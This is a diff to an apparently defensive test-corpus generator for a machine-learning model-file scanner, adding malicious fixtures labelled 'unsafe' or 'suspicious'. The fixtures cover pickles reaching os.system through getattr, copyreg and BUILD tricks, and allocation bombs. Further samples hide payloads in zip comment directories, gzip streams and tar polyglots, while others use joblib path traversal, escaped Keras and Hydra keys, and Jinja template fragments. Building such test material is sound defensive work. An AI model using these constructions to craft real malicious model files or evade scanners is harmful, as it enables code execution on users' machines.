@@ -730,6 +730,15 @@ def keras_zip(config: dict[str, object]) -> bytes:
     return buf.getvalue()
 
 
+def keras_zip_raw(config_json: str) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as zf:
+        zf.writestr("metadata.json", json.dumps({"keras_version": "3.6.0"}))
+        zf.writestr("config.json", config_json)
+        zf.writestr("model.weights.h5", b"")
+    return buf.getvalue()
+
+
 LAMBDA_CODE = base64.b64encode(marshal.dumps(compile(SOURCE, "<lambda>", "eval"))).decode()
 
 
@@ -994,6 +1003,174 @@ def _gzip_bomb(size: int) -> bytes:
 
 
 BOMB_SIZE = 600 << 20
+
+
+# -- issue 11 §8: bypass classes where a scanner's reading of a file differed from the loader's -----------
+def zip_with_hidden_directory(visible: list[ZipEntry], hidden: list[ZipEntry]) -> bytes:
+    """A zip whose end record's comment holds a second central directory and end record. miniz (libtorch)
+    and Python's zipfile take the last end signature, even though its comment length runs past the file;
+    a reader that insists on a fitting comment takes the outer one."""
+    out = bytearray()
+    offsets: list[int] = []
+    for e in visible + hidden:
+        offsets.append(len(out))
+        crc = zlib.crc32(e.data)
+        name = e.name.encode()
+        out += struct.pack(
+            "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0x21, crc, len(e.data), len(e.data), len(name), 0
+        )
+        out += name + e.data
+
+    def directory(entries: list[ZipEntry], at: list[int]) -> bytes:
+        cd = bytearray()
+        for e, off in zip(entries, at, strict=True):
+            name = e.name.encode()
+            crc = zlib.crc32(e.data)
+            cd += struct.pack(
+                "<4sHHHHHHIIIHHHHHII",
+                b"PK\x01\x02",
+                20,
+                20,
+                0,
+                0,
+                0,
+                0x21,
+                crc,
+                len(e.data),
+                len(e.data),
+                len(name),
+                0,
+                0,
+                0,
+                0,
+                0,
+                off,
+            )
+            cd += name
+        return bytes(cd)
+
+    outer = directory(visible, offsets[: len(visible)])
+    inner = directory(hidden, offsets[len(visible) :])
+    outer_at = len(out)
+    inner_at = outer_at + len(outer) + 22
+    inner_end = struct.pack(
+        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(hidden), len(hidden), len(inner), inner_at, 0xFFFF
+    )
+    comment = inner + inner_end
+    outer_end = struct.pack(
+        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(visible), len(visible), len(outer), outer_at, len(comment)
+    )
+    return bytes(out + outer + outer_end + comment)
+
+
+def v7_tar_polyglot(members: list[tuple[str, bytes]], head_pickle: bytes) -> bytes:
+    """A pre-POSIX (v7) tar, no `ustar` magic, whose first member's name is a complete pickle: pickle.load
+    reads that pickle, torch.load's legacy loader reads the tar (it tries tar first)."""
+    out = bytearray()
+    for name, data in [(head_pickle.decode("latin-1"), b""), *members]:
+        header = bytearray(512)
+        raw = name.encode("latin-1")
+        header[: len(raw)] = raw
+        header[100:108] = b"0000644\x00"
+        header[108:116] = header[116:124] = b"0000000\x00"
+        header[124:136] = f"{len(data):011o}\x00".encode()
+        header[136:148] = b"00000000000\x00"
+        header[156:157] = b"0"
+        header[148:156] = b" " * 8
+        header[148:156] = f"{sum(header):06o}\x00 ".encode()
+        out += header + data + b"\x00" * (-len(data) % 512)
+    return bytes(out + b"\x00" * 1024)
+
+
+def npy_with_descr(descr: str, body: bytes, shape: str = "(1,)") -> bytes:
+    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}"
+    header += " " * (-(len(header) + 11) % 64) + "\n"
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + body
+
+
+def getattr_as_value() -> bytes:
+    """builtins.getattr, first called innocently, then stored on an allowed object and handed to
+    copyreg._reconstructor, which would call it with names that walk __init__.__globals__ to os.system."""
+    getattr_memo = glob("builtins", "getattr") + binput(0)
+    innocent = call(getattr_memo, glob("collections", "OrderedDict"), s("fromkeys")) + POP
+    holder = (
+        call(glob("argparse", "Namespace"))
+        + EMPTY_DICT
+        + s("walk")
+        + binget(0)
+        + b"s"
+        + s("names")
+        + MARK
+        + s("__init__")
+        + s("__globals__")
+        + s("system")
+        + TUPLE
+        + b"s"
+        + BUILD
+        + POP
+    )
+    invoke = call(glob("copyreg", "_reconstructor"), glob("argparse", "Namespace"), binget(0), s(CMD))
+    return proto(2) + innocent + holder + invoke + STOP
+
+
+def setstate_by_build() -> bytes:
+    """BUILD puts `__setstate__` into an allowed object's __dict__; the next BUILD calls it with the state."""
+    first = EMPTY_DICT + s("__setstate__") + glob("collections", "OrderedDict") + b"s" + BUILD
+    return proto(2) + call(glob("argparse", "Namespace")) + first + s(CMD) + BUILD + STOP
+
+
+def chunked_multistream(first: bytes, second: bytes, compress: object) -> bytes:
+    assert callable(compress)
+    return bytes(compress(first)) + bytes(compress(second))
+
+
+def joblib_object_fields() -> bytes:
+    """A real joblib dump of a structured array with an object field: joblib pickles such arrays after the
+    wrapper instead of writing raw bytes. Its placeholder string becomes a payload call."""
+    import joblib
+    import numpy as np
+
+    arr = np.array([(1, "WY_PLACEHOLDER")], dtype=[("a", "<i4"), ("o", "O")])
+    buf = io.BytesIO()
+    joblib.dump(arr, buf, protocol=2)
+    raw = buf.getvalue()
+    placeholder = b"\x8c\x0eWY_PLACEHOLDER"
+    assert raw.count(placeholder) == 1
+    payload = call(glob("os", "system"), s(CMD))
+    # The object array is a protocol 5 pickle in one frame; its length grows with the payload.
+    frame = raw.index(b"\x95", raw.index(b"\x80\x05"))
+    (length,) = struct.unpack_from("<Q", raw, frame + 1)
+    raw = raw[: frame + 1] + struct.pack("<Q", length + len(payload) - len(placeholder)) + raw[frame + 9 :]
+    return raw.replace(placeholder, payload)
+
+
+def joblib_side_file(filename: str) -> bytes:
+    """joblib < 0.10 kept arrays in side files; its NDArrayWrapper loads them with allow_pickle=True."""
+    state = (
+        EMPTY_DICT
+        + MARK
+        + s("filename")
+        + s(filename)
+        + s("subclass")
+        + glob("numpy", "ndarray")
+        + s("allow_mmap")
+        + b"\x89"
+        + SETITEMS
+    )
+    wrapper = call(
+        glob("copyreg", "_reconstructor"),
+        glob("joblib.numpy_pickle_compat", "NDArrayWrapper"),
+        glob("builtins", "object"),
+        b"N",
+    )
+    return proto(2) + wrapper + state + BUILD + STOP
+
+
+def hydra_yaml_escaped_target() -> str:
+    return 'model:\n  "\\x5ftarget_": os.system\n  command: "' + CMD + '"\n'
+
+
+FRAGMENT_TEMPLATE = "{% set n = '_' ~ '_cla' ~ 'ss_' ~ '_' %}{{ messages[n] }}"
 
 
 def build(root: Path) -> list[Sample]:
@@ -1499,6 +1676,211 @@ def build(root: Path) -> list[Sample]:
         True,
         "unsafe",
         "SSTI in a chat_template.jinja file",
+    )
+
+    # Issue 11 §8: where a scanner read a file differently from its loader.
+    put("pickle/getattr_as_value.pkl", getattr_as_value(), True, "unsafe", "getattr stored as a value")
+    put("pickle/setstate_by_build.pkl", setstate_by_build(), True, "unsafe", "BUILD installs __setstate__")
+    put(
+        "pickle/list_range_bomb.pkl",
+        evil(glob("builtins", "list"), call(glob("builtins", "range"), i(2**31))),
+        True,
+        "unsafe",
+        "list(range(2**31)) allocation bomb",
+    )
+    put(
+        "pickle/reconstructor_range_bomb.pkl",
+        evil(
+            glob("copyreg", "_reconstructor"),
+            glob("builtins", "list"),
+            glob("builtins", "list"),
+            call(glob("builtins", "range"), i(2**31)),
+        ),
+        True,
+        "unsafe",
+        "copyreg._reconstructor(list, list, range(2**31))",
+    )
+    put(
+        "pickle/hex_int_bomb.pkl",
+        proto(2) + glob("builtins", "bytearray") + MARK + b"I0x10000000000\n" + TUPLE + REDUCE + STOP,
+        True,
+        "unsafe",
+        "size written as a hex INT that the C unpickler accepts",
+    )
+    put(
+        "pickle/rebuild_helper_bomb.pkl",
+        evil(
+            glob("torch._utils", "_rebuild_from_type_v2"),
+            glob("builtins", "bytearray"),
+            glob("torch", "Tensor"),
+            MARK + i(2**40) + TUPLE,
+            EMPTY_DICT,
+        ),
+        True,
+        "unsafe",
+        "allocation through a rebuild helper that calls its argument",
+    )
+    put(
+        "pickle/storage_bomb.pkl",
+        evil(glob("torch", "FloatStorage"), i(2**40)),
+        True,
+        "unsafe",
+        "torch storage constructor allocation bomb",
+    )
+    put(
+        "pickle/trailing_junk.pkl",
+        pickle.dumps({"w": 1}, protocol=2) + b"\x00\x01\x02 not a pickle",
+        True,
+        "suspicious",
+        "bytes after the pickle's STOP",
+    )
+    put(
+        "pickle/gzip_multistream.pkl.gz",
+        chunked_multistream(pickle.dumps({"w": 1}, protocol=2), OS_SYSTEM, gzip.compress),
+        True,
+        "unsafe",
+        "payload in the second stream of a multi-stream gzip",
+    )
+    put(
+        "pickle/bz2_multistream.bin",
+        chunked_multistream(pickle.dumps({"w": 1}, protocol=2), OS_SYSTEM, __import__("bz2").compress),
+        True,
+        "unsafe",
+        "payload in the second stream of a multi-stream bzip2",
+    )
+    put(
+        "archive/eocd_comment_directory.zip",
+        zip_with_hidden_directory([ZipEntry("README.md", b"# hi\n")], [ZipEntry("model.pkl", OS_SYSTEM)]),
+        True,
+        "unsafe",
+        "second central directory hidden in the end record's comment",
+    )
+    put(
+        "torch/eocd_comment_directory.pt",
+        zip_with_hidden_directory(
+            [ZipEntry(n, d) for n, d in benign_members],
+            [ZipEntry(n, OS_SYSTEM if n.endswith("data.pkl") else d) for n, d in benign_members],
+        ),
+        True,
+        "unsafe",
+        "torch archive whose comment hides the directory libtorch reads",
+    )
+    put(
+        "torch/v7_tar_polyglot.pt",
+        v7_tar_polyglot(
+            [
+                ("sys_info", pickle.dumps({"little_endian": True}, protocol=2)),
+                ("pickle", OS_SYSTEM),
+                ("storages", pickle.dumps(0, protocol=2)),
+                ("tensors", pickle.dumps(0, protocol=2)),
+            ],
+            pickle.dumps(1, protocol=2),
+        ),
+        True,
+        "unsafe",
+        "pickle that is also a v7 tar read by torch's legacy loader",
+    )
+    put(
+        "torch/deflated_storage.pt",
+        make_zip([ZipEntry(n, d, method=8 if "/data/" in n else 0) for n, d in benign_members]),
+        True,
+        "suspicious",
+        "storage record compressed with deflate (torch writes stored members)",
+    )
+    for key, descr in {
+        "word": "'object'",
+        "subarray": "('O', (1,))",
+        "field_subarray": "[('a', '<f4'), ('b', ('O', (2,)))]",
+        "string_field": "['xO']",
+        "dict_fields": "{'xO': 0}",
+        "comma_string": "'i4,O'",
+        "nested_fields": "[('a', [('c', 'O')])]",
+    }.items():
+        put(
+            f"numpy/object_{key}.npy",
+            npy_with_descr(descr, OS_SYSTEM),
+            True,
+            "unsafe",
+            f"object dtype spelled {descr}",
+        )
+    put(
+        "joblib/object_fields.joblib",
+        joblib_object_fields(),
+        True,
+        "unsafe",
+        "structured array with an object field pickled after the wrapper",
+    )
+    put(
+        "joblib/side_file_escape.pkl",
+        joblib_side_file("../../../tmp/weightyard.npy"),
+        True,
+        "unsafe",
+        "NDArrayWrapper side file outside the folder",
+    )
+    escaped_lambda = json.dumps(keras_config(lambda_layer)).replace('"class_name"', '"class\\u005fname"')
+    put(
+        "keras/escaped_lambda.h5",
+        h5_bytes({"model_config": escaped_lambda, "keras_version": "2.15.0"}),
+        True,
+        "unsafe",
+        "Lambda behind an escaped class\\u005fname key in HDF5",
+    )
+    put(
+        "keras/nan_lambda.keras",
+        keras_zip_raw(json.dumps(keras_config(lambda_layer))[:-1] + ', "seed": NaN}'),
+        True,
+        "unsafe",
+        "Lambda in a config.json with a NaN that strict JSON rejects",
+    )
+    put(
+        "keras/undecodable_config.keras",
+        keras_zip_raw('{"class_name": "Sequential", "config": {"layers": [}'),
+        True,
+        "unscannable",
+        "config.json that does not decode",
+    )
+    put(
+        "config/nan_auto_map/config.json",
+        '{"initializer_range": NaN, "auto_map": {"AutoModel": "attacker/repo--modeling_x.XModel"}}',
+        True,
+        "unsafe",
+        "cross-repo auto_map in a config with NaN",
+    )
+    put(
+        "config/duplicate_auto_map/config.json",
+        '{"auto_map": {"AutoModel": "attacker/repo--modeling_x.XModel"}, "auto_map": {}}',
+        True,
+        "unsafe",
+        "cross-repo auto_map hidden behind a duplicate key",
+    )
+    put(
+        "config/escaped_target.json",
+        '{"model": {"_t\\u0061rget_": "os.system", "command": "' + CMD + '"}}',
+        True,
+        "unsafe",
+        "Hydra _target_ behind an escaped key",
+    )
+    put("config/escaped_target.yaml", hydra_yaml_escaped_target(), True, "unsafe", "YAML-escaped _target_")
+    put(
+        "config/unknown_target.yaml",
+        "model:\n  _target_: mylib.factory.build\n",
+        True,
+        "suspicious",
+        "Hydra _target_ outside the allow-list",
+    )
+    put(
+        "config/ssti_fragments/tokenizer_config.json",
+        json.dumps({"chat_template": FRAGMENT_TEMPLATE}),
+        True,
+        "unsafe",
+        "dunder name assembled from fragments",
+    )
+    put(
+        "gguf/ssti_fragments.gguf",
+        gguf({"general.architecture": "llama", "tokenizer.chat_template": FRAGMENT_TEMPLATE}),
+        True,
+        "unsafe",
+        "chat template assembling a dunder name from fragments",
     )
 
     # Cross-file: ONNX external data through a symlink that leaves the folder.
